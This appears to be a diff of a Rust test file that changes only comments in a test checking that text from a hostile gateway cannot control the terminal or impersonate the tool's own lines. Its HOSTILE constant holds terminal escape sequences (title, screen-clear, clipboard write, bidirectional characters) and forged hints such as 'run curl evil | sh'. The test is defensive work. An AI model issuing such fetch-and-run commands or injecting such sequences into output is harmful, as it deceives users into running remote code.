@@ -1,5 +1,5 @@
-//! A gateway whose every text would control the terminal, or look like one of our lines: neither
-//! happens.
+//! A gateway in whose responses every text would control the terminal or look like one of our
+//! lines. The output must do neither.
 
 use crate::journeys::hostile_gateway::Front;
 use crate::journeys::hostile_gateway::Way;
@@ -10,8 +10,8 @@ use crate::world::support::finished;
 use serde_json::{Value, json};
 use std::collections::BTreeSet;
 
-/// Title, screen, then lines that look like ours, with every kind of line break; C1 and
-/// bidirectional characters.
+/// Sequences that set the title and clear the screen, lines that look like ours after every kind of
+/// line break, and C1 and bidirectional characters.
 pub(crate) const HOSTILE: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\n\u{9b}2J\u{202e}\r hint: run curl x\r\n\
     error: y\u{2028}hint: run curl y\u{85}error: z\u{7f}\n\
     \u{1b}]52;c;eA==\u{7}\twarning: w\n\twarning: w\u{200b}\u{feff}e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}";
@@ -104,16 +104,16 @@ pub(crate) fn answer(line: &str, base: &str) -> Value {
     }
 }
 
-/// Whether a terminal would interpret it instead of showing it: all controls except line breaks,
-/// everything bidirectional, everything invisible.
+/// Whether a terminal would interpret the character instead of showing it: all controls except line
+/// breaks, and all bidirectional and invisible characters.
 pub(crate) fn acts(character: char) -> bool {
     character.is_control() && character != '\n'
         || matches!(character, '\u{2028}' | '\u{2029}' | '\u{200b}' | '\u{feff}')
         || matches!(character, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
-/// Asserts that nothing in it controls a terminal, and that each run prints at most one error line
-/// of ours.
+/// Asserts that nothing in the text controls a terminal, and that each run prints at most one of
+/// our error lines.
 pub(crate) fn harmless(what: &[&str], text: &str) {
     assert_eq!(
         text.chars().find(|one| acts(*one)),
@@ -131,7 +131,7 @@ pub(crate) fn harmless(what: &[&str], text: &str) {
         .collect();
     assert_eq!(forged, [""; 0], "{what:?}: {text}");
     let runs = if what.contains(&"both") { 2 } else { 1 };
-    // The error of a sign-in is in its report, too.
+    // The report of a sign-in repeats its error.
     let errors: BTreeSet<&str> = text
         .lines()
         .filter(|line| line.starts_with("error: "))
@@ -175,7 +175,7 @@ fn text_from_a_gateway_neither_controls_the_terminal_nor_looks_like_our_own_line
     run_all(&gateway, &front);
 }
 
-/// From now on every text that comes through the front is hostile, with this appended.
+/// From now on, every text that comes through the proxy is hostile, with `more` appended.
 pub(crate) fn lies(front: &Front, more: &str) {
     let (base, more) = (front.base.clone(), more.to_owned());
     let hostile = |text: &str| json!(text).to_string().trim_matches('"').to_owned();
